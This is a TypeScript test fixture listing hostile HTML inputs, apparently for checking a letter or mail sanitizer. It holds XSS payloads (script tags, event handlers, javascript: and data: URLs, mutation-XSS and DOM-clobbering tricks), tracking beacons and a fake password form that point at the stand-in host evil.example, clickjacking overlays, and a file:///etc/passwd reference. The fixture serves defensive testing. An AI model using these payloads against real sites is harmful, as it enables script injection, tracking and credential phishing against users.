// Letters that try to run, to call home, to lead away, to ask for a password, or to leave their frame. Our own words for known tricks.
const OUT = 'http://evil.example'

export const hostileLetters: Readonly<Record<string, string>> = {
  script: `<script>alert(1)</script><img src=x onerror=alert(2)><svg onload=alert(3)><details open ontoggle=alert(4)><p onclick=alert(5)>lisible</p>`,
  frames: `<iframe srcdoc="<script>parent.alert(1)</script>"></iframe><iframe src="javascript:alert(2)"></iframe><object data="${OUT}/o"></object><embed src="${OUT}/e">lisible`,
  'leading away': `<meta http-equiv=refresh content="0;url=${OUT}/"><base href="${OUT}/"><a href="${OUT}/" target=_top ping="${OUT}/ping">lien lisible</a>`,
  'calling home': `<img src="${OUT}/i"><img srcset="${OUT}/s 1x"><video poster="${OUT}/v"></video><table background="${OUT}/t"><tr><td>lisible</table><link rel=stylesheet href="${OUT}/l">`,
  'calling home by style': `<style>@import url(${OUT}/a);body{background:url(${OUT}/b)}</style><p style="background:url(${OUT}/c);list-style-image:u\\72l(${OUT}/d)">lisible</p>`,
  'a false form': `<form action="${OUT}/f" method=post>Mot de passe <input name=password type=password><textarea></textarea><button formaction="${OUT}/g">Entrer</button></form>lisible`,
  'over everything': `<div style="position:fixed;inset:0;top:-500px;left:-500px;width:9999px;height:9999px;margin:-9999px;z-index:2147483647;transform:scale(50)">lisible</div><dialog open>x</dialog>`,
  'false links': `<a href="java\tscript:alert(1)">a</a><a href="&#106;avascript:alert(2)">b</a><a href="data:text/html,<script>alert(3)</script>">c</a><a href="//evil.example/x">lisible</a>`,
  'read twice': `<p>lisible</p><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></table></mtext></math><noscript><p title="</noscript><img src=x onerror=alert(2)>">lisible`,
  'names of ours': `<a id=body name=cookie>x</a><img name=getElementById><form id=document><input name=querySelector></form>lisible`,
  'our own addresses': `<img src="/api/v1/session"><img src="/api/v1/cases"><img src="file:///etc/passwd"><a href="/api/v1/session">lisible</a>`,
  comments: `<!--[if mso]><img src="${OUT}/mso" onerror=alert(1)><![endif]--><!--><img src=x onerror=alert(2)>--><![CDATA[<img src=x onerror=alert(3)>]]>lisible`,
  depth: `${'<div>'.repeat(4_000)}lisible`,
}

export const hostileAnswer = `<style>*{background:url(${OUT}/s)}</style><script>alert(1)</script><img src=x onerror=alert(2)><form action="${OUT}/f"><input></form><iframe src="${OUT}/i"></iframe><a href="javascript:alert(3)" onclick=alert(4)>lisible</a>`
